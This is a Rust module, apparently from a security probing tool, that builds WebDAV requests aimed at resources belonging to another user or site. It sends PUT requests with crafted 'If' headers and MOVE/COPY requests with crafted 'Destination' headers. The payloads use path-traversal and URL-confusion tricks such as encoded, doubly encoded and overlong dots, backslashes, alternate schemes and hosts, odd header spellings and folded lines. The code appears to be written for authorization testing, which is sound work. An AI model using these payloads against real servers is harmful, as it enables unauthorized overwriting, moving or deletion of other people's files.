//! Attacks by the fields of WebDAV that name further resources.

use super::Collector;
use super::head::ELSEWHERE;
use crate::probe::site::Site;

/// Ways to name what is the other's as a second resource: rule, and whole reference.
fn references(site: &Site) -> Vec<(String, String)> {
    let (own, other, below) = (site.own_base(), site.other_target(), site.other_below());
    let source = site.own_target();
    let scheme = if site.is_secure { "https" } else { "http" };
    let way = |dots: &str, slash: &str| format!("{own}{}{below}", site.up(dots, slash));
    let home = site.other.home.trim_start_matches('/');
    let targets = [
        ("directly", other.clone()),
        ("by dots", way("..", "/")),
        ("by encoded dots", way("%2e%2e", "/")),
        ("by doubly encoded dots", way("%252e%252e", "/")),
        ("by encoded slashes", way("..", "%2f")),
        ("by backslashes", way("..", "\\")),
        ("by encoded backslashes", way("..", "%5c")),
        ("by parameters", way("..;", "/")),
        ("by overlong dots", way("%c0%ae%c0%ae", "/")),
        ("with an encoded letter", other.replacen(home, &encode_first(home), 1)),
        ("with a query", format!("{other}?{source}")),
        ("with a fragment", format!("{other}#/..{source}")),
        ("behind a fragment", format!("{source}#/../..{other}")),
        ("with empty segments", other.replace('/', "//")),
    ];
    let fronts = [
        ("a path", String::new()),
        ("a URL", format!("{scheme}://{{authority}}")),
        ("a URL in upper case", format!("{}://{{authority}}", scheme.to_uppercase())),
        (
            "another scheme",
            format!("{}://{{authority}}", if site.is_secure { "http" } else { "https" }),
        ),
        ("another host", format!("{scheme}://{ELSEWHERE}")),
        ("a user in the host", format!("{scheme}://x@{{authority}}")),
        ("no scheme", "//{authority}".to_owned()),
    ];
    let all = fronts.iter().flat_map(|(form, front)| {
        let named =
            |(way, target): &(&str, String)| (format!("{form}, {way}"), format!("{front}{target}"));
        targets.iter().map(named).collect::<Vec<_>>()
    });
    all.collect()
}

pub(super) fn condition(of: &mut Collector<'_>) {
    let site = of.site;
    let (other, below, source) = (site.other_target(), site.other_below(), site.own_target());
    let source = source.split('?').next().unwrap_or_default();
    for (rule, reference) in references(site) {
        let field = format!("If: <{reference}> (<urn:x:1>)");
        of.send(&rule, "PUT", source, &[&field]);
    }
    let up = site.up("..", "/");
    for (rule, value) in [
        ("behind a good one", format!("<{source}> (<urn:x:1>) <{other}> ([\"e\"])")),
        ("in front of a good one", format!("<{other}> (<urn:x:1>) <{source}> ([\"e\"])")),
        ("behind lists without a tag", format!("(<urn:x:1>) <{other}> ([\"e\"])")),
        ("without a list", format!("<{other}>")),
        ("with an empty list", format!("<{other}> ()")),
        ("behind a quote", format!("([\"e)(\"]) <{other}> (<urn:x:1>)")),
        ("behind an escaped quote", format!("([\"e\\\"]) <{other}> (<urn:x:1>)")),
        ("behind a comma", format!("(<urn:x:1>), <{other}> (<urn:x:1>)")),
        ("without blanks", format!("<{other}>(Not<urn:x:1>)")),
        ("relative", format!("<{up}{below}> (<urn:x:1>)")),
    ] {
        of.send(rule, "PUT", source, &[&format!("If: {value}")]);
    }
    let (good, bad) = (format!("If: <{source}> (<urn:x:1>)"), format!("If: <{other}> (<urn:x:1>)"));
    of.send("two, the good one first", "PUT", source, &[&good, &bad]);
    of.send("two, the good one last", "PUT", source, &[&bad, &good]);
    for name in ["if", "IF", "If ", "If\t"] {
        of.send("another spelling", "PUT", source, &[&format!("{name}: <{other}> (<urn:x:1>)")]);
    }
    for method in ["GET", "LOCK", "UNLOCK", "MOVE", "DELETE", "PROPPATCH"] {
        of.send("with another method", method, source, &[&bad]);
    }
}

pub(super) fn destination(of: &mut Collector<'_>) {
    let site = of.site;
    let (other, below, source) = (site.other_target(), site.other_below(), site.own_target());
    for (index, (rule, reference)) in references(site).into_iter().enumerate() {
        let method = if index / 14 % 2 == 0 { "MOVE" } else { "COPY" };
        of.send(&rule, method, &source, &[&format!("Destination: {reference}")]);
    }
    let good = format!("Destination: {source}2");
    let bad = format!("Destination: {other}");
    of.send("two, the good one first", "MOVE", &source, &[&good, &bad]);
    of.send("two, the good one last", "MOVE", &source, &[&bad, &good]);
    of.send("a list", "MOVE", &source, &[&format!("Destination: {source}2, {other}")]);
    of.send("relative", "MOVE", &source, &[&format!("Destination: {}{below}", site.up("..", "/"))]);
    for name in ["destination", "DESTINATION", "Destination ", "Destination\t"] {
        of.send("another spelling", "MOVE", &source, &[&format!("{name}: {other}")]);
    }
    of.send("a folded line", "MOVE", &source, &[&format!("Destination:\r\n {other}")]);
    for method in ["GET", "PUT", "POST", "LINK", "move", "Move"] {
        of.send("with another method", method, &source, &[&bad]);
    }
}

fn encode_first(name: &str) -> String {
    let (first, rest) = name.split_at_checked(1).unwrap_or((name, ""));
    let code = first.bytes().next().unwrap_or_default();
    format!("%{code:02x}{rest}")
}
